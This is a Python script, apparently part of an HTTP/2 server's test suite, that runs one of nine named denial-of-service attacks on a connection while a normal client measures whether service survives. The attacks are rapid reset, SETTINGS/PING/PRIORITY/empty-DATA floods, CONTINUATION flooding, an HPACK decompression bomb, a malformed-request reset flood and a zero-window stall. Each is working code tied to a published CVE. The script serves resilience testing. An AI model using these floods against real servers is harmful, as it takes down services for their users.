#!/usr/bin/python3
"""spec/h2/attack.py ATTACK PORT: runs one HTTP/2 attack on a fresh connection while a
well-behaved client asks for GET / on another, and prints one JSON line:
{"goaway": {"code": ..., "last_stream_id": n} | null, "closed": bool, "good_ok": n,
 "good_failed": n, "sent": n, "elapsed": s, ...}.

Attacks (RFC 9113 §10.5 and the CVEs they are named after):
  rapid_reset   HEADERS + RST_STREAM pairs (CVE-2023-44487)
  settings      SETTINGS flood (CVE-2019-9515)
  ping          PING flood (CVE-2019-9512)
  empty_data    empty DATA frames on an open stream (CVE-2019-9518)
  priority      PRIORITY flood (CVE-2019-9513 family; nghttp2 drops them unread, we count them)
  continuation  endless CONTINUATION frames (CVE-2024-27316 family)
  hpack_bomb    a small block that decodes to a huge header list (RFC 9113 §10.5.1)
  malformed     requests the server must reset, one after another (CVE-2019-9514)
  window        a stream whose receive window is never opened (slow reader)
"""
import sys
import time

from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GoodClient, HEADERS, PING,
                   PRIORITY, RST_STREAM, RawConn, frame, report, request_block, settings)
import hpack
import struct


def rapid_reset(c, n=20000):
    enc = hpack.Encoder()
    sent = 0
    for i in range(n):
        sid = 1 + 2 * i
        b = frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block("/", encoder=enc))
        b += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
        if not c.send(b):
            break
        sent += 1
        if i % 100 == 0 and not c.pump(0):
            break
    return sent


def flood(c, make, n=20000):
    sent = 0
    batch = b"".join(make(i) for i in range(100))
    while sent < n:
        if not c.send(batch):
            break
        sent += 100
        if not c.pump(0):
            break
    return sent


def settings_flood(c):
    return flood(c, lambda i: settings([(3, 100)]))


def ping_flood(c):
    return flood(c, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))


def priority_flood(c):
    # valid PRIORITY frames on idle odd streams, 5 bytes each
    return flood(c, lambda i: frame(PRIORITY, 0, 3 + 2 * i, struct.pack(">IB", 0, 15)))


def empty_data(c):
    c.send(frame(HEADERS, END_HEADERS, 1, request_block("/echo", "POST")))
    return flood(c, lambda i: frame(DATA, 0, 1, b""))


def continuation(c):
    enc = hpack.Encoder()
    c.send(frame(HEADERS, 0, 1, request_block("/", encoder=enc)))
    one = enc.encode([("x-filler", "a" * 10)])
    return flood(c, lambda i: frame(CONTINUATION, 0, 1, one), n=5000)


def hpack_bomb(c):
    # one 4000-byte literal added to the dynamic table (index 62), then referenced 2000 times:
    # a 6 KB block that decodes to 8 MB
    value = b"a" * 4000
    lit = bytes([0x40, 0x06]) + b"x-bomb" + bytes([0x7F]) + _int7(len(value) - 127) + value
    enc = hpack.Encoder()
    block = request_block("/", encoder=enc) + lit + bytes([0xBE]) * 2000
    sent = 0
    for i in range(50):
        if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)):
            break
        sent += 1
        if not c.pump(0.01):
            break
    return sent


def _int7(v):
    out = b""
    while v >= 128:
        out += bytes([(v % 128) + 128])
        v //= 128
    return out + bytes([v])


def malformed(c, n=20000):
    # requests nghttp2 must refuse with RST_STREAM(PROTOCOL_ERROR): an upper-case field name
    # (RFC 9113 §8.2.1); each costs the server a reset (CVE-2019-9514, reset flood)
    enc = hpack.Encoder()
    sent = 0
    for i in range(n):
        blk = request_block("/", encoder=enc) + bytes([0x00, 0x03]) + b"BAD" + bytes([0x01]) + b"x"
        if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, blk)):
            break
        sent += 1
        if i % 100 == 0 and not c.pump(0):
            break
    return sent


def window(c):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0 (sent by RawConn): the response can never be sent
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/big")))
    return 1


ATTACKS = {"rapid_reset": rapid_reset, "settings": settings_flood, "ping": ping_flood, "priority": priority_flood,
           "empty_data": empty_data, "continuation": continuation, "hpack_bomb": hpack_bomb,
           "window": window, "malformed": malformed}


def main():
    name, port = sys.argv[1], int(sys.argv[2])
    wait = float(sys.argv[3]) if len(sys.argv) > 3 else 5.0
    good = GoodClient(port)
    good.start()
    time.sleep(0.1)
    t0 = time.time()
    c = RawConn(port, window=0 if name == "window" else None)
    c.pump(0.2)
    sent = ATTACKS[name](c)
    c.wait(lambda: c.goaway is not None, wait)
    closed = c.wait_closed(wait)
    elapsed = time.time() - t0
    time.sleep(0.2)
    good.stop()
    report({"attack": name, "goaway": c.goaway, "closed": closed, "sent": sent,
            "elapsed": round(elapsed, 3), "good_ok": good.ok, "good_failed": good.failed,
            "good_errors": good.errors[:3], "data_bytes": sum(len(v) for v in c.data.values()),
            "status": c.status(1)})


if __name__ == "__main__":
    main()
